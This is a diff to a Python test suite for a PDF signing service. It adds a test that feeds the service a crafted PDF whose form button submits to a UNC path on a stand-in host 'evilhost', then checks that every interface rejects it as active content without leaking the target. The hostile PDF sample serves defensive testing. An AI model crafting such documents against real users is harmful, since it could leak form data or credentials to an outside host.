@@ -4,6 +4,7 @@ and prove the signature with pyHanko and poppler's pdfsig."""
 from __future__ import annotations
 
 import hashlib
+import json
 import time
 import warnings
 from pathlib import Path
@@ -341,3 +342,43 @@ def test_a_packets_stored_contract_is_read_where_it_is_and_its_digest_checked_as
     finally:
         if area_root is not None:
             shutil.rmtree(area_root, ignore_errors=True)
+
+
+def test_a_refusal_says_why_and_where_on_every_path(daemon, tmp_path):
+    # A form button that submits to a UNC path: the job, its events, the kiosk, the
+    # command line and a replay all say link_scheme at the button's object and field,
+    # and none of them the target.
+    from tests.helpers_corpus import _one_page
+    from tests.integration.test_hostile_http import kiosk
+
+    button = (b"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (Send) "
+              rb"/Rect [0 0 10 10] /A << /S /SubmitForm /F (\\\\evilhost\\in) >> >>")
+    data = _one_page(catalog_extra=b"/AcroForm << /Fields [6 0 R] >> ",
+                     page_extra=b"/Annots [6 0 R] ", more=[button])
+    where = {"object": 6, "field": "Send"}
+    job = daemon.wait_job(daemon.submit(manifest("WHY-1", upload(daemon, "WHY-1", data), []))
+                          .json()["job_id"])
+    err = job["error"]
+    assert job["state"] == "failed" and (err["code"], err["reason"], err["where"]) == (
+        "active_content", "link_scheme", where), job
+    assert "SubmitForm" in err["message"] and "evilhost" not in str(job)
+    failed = [e for e in daemon.events(job["job_id"]) if e["type"] == "failed"][-1]
+    assert failed["detail"]["reason"] == "link_scheme"
+    assert failed["detail"]["where"] == {"object": 6}  # the field's name stays out of the log
+
+    r = kiosk(daemon, "WHY-2", data)
+    assert r.status == 422
+    body = r.json()["error"]
+    assert (body["code"], body["reason"], body["where"]) == ("active_content", "link_scheme",
+                                                             where)
+    assert body["message"] == err["message"]
+
+    shown = daemon.cli("jobs", "show", job["job_id"])
+    assert json.loads(shown.stdout)["error"]["reason"] == "link_scheme"
+    path = tmp_path / "button.pdf"
+    path.write_bytes(data)
+    signed = daemon.cli("sign", str(path), "--case", "WHY-3", "-o", str(tmp_path / "o.pdf"))
+    assert signed.returncode == 1, signed
+    assert "error: active_content:" in signed.stderr
+    assert "(reason link_scheme, object 6, field 'Send'" in signed.stderr
+    assert not (tmp_path / "o.pdf").exists()
